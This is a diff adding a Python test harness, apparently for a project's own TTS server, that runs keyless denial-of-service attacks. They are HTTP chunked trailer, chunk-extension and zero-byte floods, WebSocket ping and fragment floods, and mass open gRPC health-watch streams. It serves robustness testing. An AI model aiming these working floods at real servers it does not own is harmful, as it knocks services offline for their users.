@@ -1,0 +1,122 @@
+"""Attacks by one client without a key, at full speed.
+
+`python -m tests.hostile.attacks NAME URL GRPC SECONDS` runs one of them.
+"""
+
+import base64
+import os
+import socket
+import sys
+import time
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager, suppress
+from dataclasses import dataclass
+from typing import Final
+from urllib.parse import urlsplit
+
+import grpc
+
+CHUNKED: Final = b"POST /tts HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
+PING: Final = b"\x89\x80\x00\x00\x00\x00"
+EMPTY_FRAGMENT: Final = b"\x00\x80\x00\x00\x00\x00"
+FIRST_FRAGMENT: Final = b"\x01\x80\x00\x00\x00\x00"
+NUM_WATCHES: Final = 1100
+NUM_UPLOADS: Final = 60
+UPLOAD_BYTES: Final = 31 << 20
+
+
+@dataclass(frozen=True, slots=True)
+class Target:
+    """Where the server listens: its address over HTTP, and host and port of gRPC."""
+
+    url: str
+    grpc: str
+
+    @contextmanager
+    def connected(self) -> Iterator[socket.socket]:
+        address = urlsplit(self.url)
+        assert address.hostname is not None
+        assert address.port is not None
+        with socket.create_connection((address.hostname, address.port), timeout=5) as connection:
+            yield connection
+
+
+def flood(target: Target, start: bytes, unit: bytes, until_s: float) -> None:
+    """Send `start` once and `unit` without end; connect anew where the server closes."""
+    block = unit * (200_000 // len(unit))
+    while time.monotonic() < until_s:
+        with suppress(OSError), target.connected() as connection:
+            connection.sendall(start)
+            while time.monotonic() < until_s:
+                connection.sendall(block)
+
+
+def trailers(target: Target, until_s: float) -> None:
+    flood(target, CHUNKED + b"0\r\na: ", b"a", until_s)
+
+
+def chunk_extensions(target: Target, until_s: float) -> None:
+    flood(target, CHUNKED + b"1;", b"a", until_s)
+
+
+def zeros_of_a_size(target: Target, until_s: float) -> None:
+    flood(target, CHUNKED, b"0", until_s)
+
+
+def _upgrade() -> bytes:
+    key = base64.b64encode(os.urandom(16)).decode()
+    return (
+        "GET /tts/stream HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
+        f"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n\r\n"
+    ).encode()
+
+
+def _frames(target: Target, first: bytes, unit: bytes, until_s: float) -> None:
+    block = unit * (200_000 // len(unit))
+    while time.monotonic() < until_s:
+        with suppress(OSError), target.connected() as connection:
+            connection.sendall(_upgrade())
+            connection.recv(4096)
+            connection.sendall(first)
+            while time.monotonic() < until_s:
+                connection.sendall(block)
+
+
+def pings(target: Target, until_s: float) -> None:
+    _frames(target, b"", PING, until_s)
+
+
+def fragments(target: Target, until_s: float) -> None:
+    _frames(target, FIRST_FRAGMENT, EMPTY_FRAGMENT, until_s)
+
+
+def health_watches(target: Target, until_s: float) -> None:
+    """Open streams that watch the health and never end."""
+    with grpc.insecure_channel(target.grpc) as channel:
+        watch = channel.unary_stream("/grpc.health.v1.Health/Watch")
+        calls = [watch(b"") for _ in range(NUM_WATCHES)]
+        while time.monotonic() < until_s:
+            time.sleep(0.05)
+        for call in calls:
+            call.cancel()
+
+
+ATTACKS: Final[dict[str, Callable[[Target, float], None]]] = {
+    "trailers": trailers,
+    "chunk_extensions": chunk_extensions,
+    "zeros_of_a_size": zeros_of_a_size,
+    "pings": pings,
+    "fragments": fragments,
+    "health_watches": health_watches,
+}
+
+
+def main(name: str, url: str, grpc_address: str, seconds: str) -> None:
+    cores = sorted(os.sched_getaffinity(0))
+    if len(cores) > 1:  # the server has the first one
+        os.sched_setaffinity(0, {cores[1]})
+    ATTACKS[name](Target(url, grpc_address), time.monotonic() + float(seconds))
+
+
+if __name__ == "__main__":
+    main(*sys.argv[1:])
